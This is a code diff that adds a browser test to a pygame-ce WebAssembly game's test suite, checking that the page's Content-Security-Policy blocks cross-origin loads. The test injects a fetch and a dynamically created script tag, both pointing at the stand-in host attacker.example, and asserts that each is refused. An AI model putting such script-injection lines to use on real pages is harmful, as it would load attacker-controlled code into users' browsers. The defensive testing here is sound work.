@@ -310,6 +310,25 @@ def test_offline_after_an_update_the_game_keeps_the_language_in_use(browser: Bro
 # -- an error in the game --------------------------------------------------------------------------
 
 
+REFUSED = ("new Promise((resolve) => {{ document.addEventListener('securitypolicyviolation',"
+           " (event) => resolve(event.effectiveDirective), {{ once: true }}); {load} }})")
+"""JavaScript: the directive of the page's policy that refuses what ``{load}`` asks for."""
+
+
+def test_the_pages_policy_refused_nothing_the_game_did_and_refuses_another_origin(game: GamePage) -> None:
+    # every flow above ran under the page's Content-Security-Policy (game/web/policy.py), the real
+    # pygame-ce on WebAssembly included: the page logs anything refused, and nothing was
+    assert game.tab.evaluate("document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]') !== null")
+    assert [line for line in game.tab.console() if "blocked by the page's policy" in line] == []
+    # a package index or a script on another origin (what a crafted $PYGPI would point at) is refused
+    fetch = "fetch('https://attacker.example/cdn/index-0.9.3-cp312.json').catch(() => {})"
+    assert game.tab.evaluate(REFUSED.format(load=fetch)) == "connect-src"
+    script = ("const s = document.createElement('script'); s.src = 'https://attacker.example/pygame.js';"
+              " document.head.appendChild(s)")
+    assert game.tab.evaluate(REFUSED.format(load=script)) == "script-src-elem"
+    assert game.python("app.frames_shown > 0")  # and the game goes on
+
+
 def test_an_error_in_the_game_shows_the_pages_failure_message(game: GamePage) -> None:
     game.to_menu()
     game.python("def broken(*args):\n    raise ZeroDivisionError('a bug in a scene')\napp.scene.draw = broken\nTrue")
